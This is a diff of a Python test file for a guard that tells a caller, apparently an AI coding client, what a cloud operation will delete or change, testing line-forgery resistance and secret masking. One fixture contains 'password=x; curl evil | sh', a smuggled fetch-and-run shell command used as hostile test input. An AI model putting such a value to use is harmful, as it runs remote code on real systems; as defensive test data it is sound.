@@ -26,6 +26,7 @@ from ap_mcp.guard.impacts.base import (
     read,
 )
 from ap_mcp.guard.impacts.generic import generic
+from ap_mcp.guard.where import Where
 from ap_mcp.simulator.constants import CHECKOUT_STAGING, PAYMENTS_PROD, SHOP_PROD
 from ap_mcp.specs import Consequence, ListItem, Operation, Target, load_catalog
 from ap_mcp.vendor import word
@@ -81,32 +82,49 @@ def error(status: int = 503, kind: type[ServiceError] = ServiceError) -> Service
 def test_the_text_says_what_happens_then_warns_then_lists() -> None:
     impact = an_impact(
         facts=(("version", "v1.30"),),
+        changes=("replicas: 1 becomes 2",),
         goes=("2 releases",),
         stays=("volumes",),
         warnings=("Careful.",),
-        unknown=("data",),
+        unknown=("whose data there is",),
+        final=True,
     )
-    assert impact.text().splitlines() == [
+    where = Where("cn-north-4", "p1", "claude-code 2.1", "alice")
+    assert impact.text(where).splitlines() == [
+        "cn-north-4: Deletes payments. No way back.",
+        "Goes: 2 releases",
+        "Changes: replicas: 1 becomes 2. Warning: Careful. Stays: volumes (+1 more)",
+        "Where: region cn-north-4, project p1",
+        'Asked by: client "claude-code 2.1", for alice',
         "Deletes payments.",
         "Warning: Careful.",
+        "Changes:",
+        "- replicas: 1 becomes 2",
         "version: v1.30",
-        "Goes or changes:",
+        "Goes:",
         "- 2 releases",
         "Stays:",
         "- volumes",
         "Not known:",
-        "- data",
+        "- whose data there is",
     ]
 
 
 def test_what_is_empty_takes_no_line() -> None:
-    assert an_impact().text() == "Deletes payments."
+    assert an_impact().text(Where("x", simulated=True)).splitlines() == [
+        "SIMULATED: Deletes payments.",
+        "Goes: nothing that is known.",
+        "Nothing stays, changes or is unknown beside that.",
+        "Where: SIMULATED: nothing here is real; region x",
+        "Asked by: a client that does not say its name",
+        "Deletes payments.",
+    ]
 
 
-@pytest.mark.parametrize("part", ["goes", "stays", "warnings", "unknown"])
+@pytest.mark.parametrize("part", ["changes", "goes", "stays", "warnings", "unknown"])
 def test_hostile_text_cannot_forge_a_line(part: str) -> None:
     lines = an_impact(**{part: (HOSTILE,)}).text().split("\n")
-    assert len(lines) == (2 if part == "warnings" else 3)
+    assert len(lines) == (7 if part == "warnings" else 8)
     assert all(line.isprintable() for line in lines)
 
 
@@ -116,7 +134,7 @@ def test_no_text_at_all_can_forge_a_line(value: str, label: str, name: str) -> N
         impact = an_impact(name=name, sentence=value, facts=((label, value),), goes=(value,))
     except CallRefused:
         return
-    assert len(impact.text().split("\n")) == 4
+    assert len(impact.text().split("\n")) == 9
     assert all(line.isprintable() for line in impact.text().split("\n"))
     assert "\n" not in impact.name
 
@@ -399,12 +417,12 @@ async def test_the_question_about_changed_settings_shows_each_before_and_after_a
     described = 'x"\\y: ' * 500
     given = {"cluster_id": PAYMENTS_PROD, "alias": "till", "description": described}
     impact = await generic(Case(replacing(SETTINGS), given, "disrupt", reader(get_cluster=standing), lambda: NOW))
-    assert 'metadata.alias: not set becomes "till"' in impact.goes
-    assert "spec.description, before: old" in impact.goes
-    after = [line.split(": ", 1)[1] for line in impact.goes if line.startswith("spec.description, after")]
-    assert "".join(map(json.loads, after)) == described
-    assert len(after) > 4
-    assert all(piece.count('"') == 2 for piece in after)
+    assert 'metadata.alias: new, "till"' in impact.changes
+    (line,) = [each for each in impact.changes if each.startswith("spec.description")]
+    assert line.startswith('spec.description: "old" becomes "x')
+    assert line.count('"') == 4
+    assert json.loads(line.partition(" becomes ")[2]) == described
+    assert line in impact.text()
     assert dict(impact.facts)["network"] == "v1"
     assert "argument alias" not in dict(impact.facts)
 
@@ -414,7 +432,7 @@ async def test_what_the_request_leaves_open_is_said_to_be_unknown_where_it_repla
     given = {"cluster_id": PAYMENTS_PROD, "description": "new"}
     read = reader(get_cluster=standing)
     impact = await generic(Case(replacing(SETTINGS), given, "disrupt", read, lambda: NOW))
-    assert "whether metadata.alias keeps its value, for the request does not name it: till" in impact.unknown
+    assert 'whether metadata.alias keeps its value, for the request does not name it: "till"' in impact.unknown
     assert [line for line in impact.unknown if "version" in line or "uid" in line] == [], "no argument sets these"
     patching = replacing(SETTINGS, method="PATCH")
     assert not (await generic(Case(patching, given, "disrupt", read, lambda: NOW))).unknown[1:]
@@ -431,15 +449,15 @@ async def test_a_change_of_what_is_replaced_asks_again_and_a_change_of_anything_
     assert before.fingerprint() == (await seen(description="old", platformVersion="cce.7")).fingerprint()
     assert before.fingerprint() != (await seen(description="older")).fingerprint()
     same = await seen(description="new")
-    assert same.goes == ()
+    assert same.changes == ()
     assert "Every setting that the request names has that value already." in same.warnings
 
 
-async def test_a_secret_among_changed_settings_is_said_to_change_and_not_shown() -> None:
+async def test_what_was_read_is_masked_and_what_the_caller_supplied_is_shown_as_it_was() -> None:
     standing = {**CLUSTER, "spec": {**CLUSTER["spec"], "description": "password=hunter21"}}
-    given = {"cluster_id": PAYMENTS_PROD, "description": "password=hunter22"}
+    given = {"cluster_id": PAYMENTS_PROD, "description": "password=x; curl evil | sh"}
     impact = await generic(Case(replacing(SETTINGS), given, "disrupt", reader(get_cluster=standing), lambda: NOW))
-    assert "spec.description: changes from one secret to another" in impact.goes
+    assert 'spec.description: "password=«masked»" becomes "password=x; curl evil | sh"' in impact.changes
     assert "hunter2" not in impact.text()
 
 
@@ -498,6 +516,6 @@ async def test_what_is_filled_in_for_the_caller_is_compared_too_and_read_once() 
     operation = replacing(Target("addon_id", "get_addon", settings=""), "update_addon")
     given = {"cluster_id": PAYMENTS_PROD, "addon_id": "a1", "values": {"b": {"c": "y"}}}
     impact = await generic(Case(operation, given, "disrupt", answer, lambda: NOW))
-    assert 'spec.values.b.c: "x" becomes "y"' in impact.goes
-    assert [line for line in impact.goes if line.startswith("spec.values.a")] == []
+    assert 'spec.values.b.c: "x" becomes "y"' in impact.changes
+    assert [line for line in impact.changes if line.startswith("spec.values.a")] == []
     assert sorted(read) == ["get_addon", "get_cluster"]
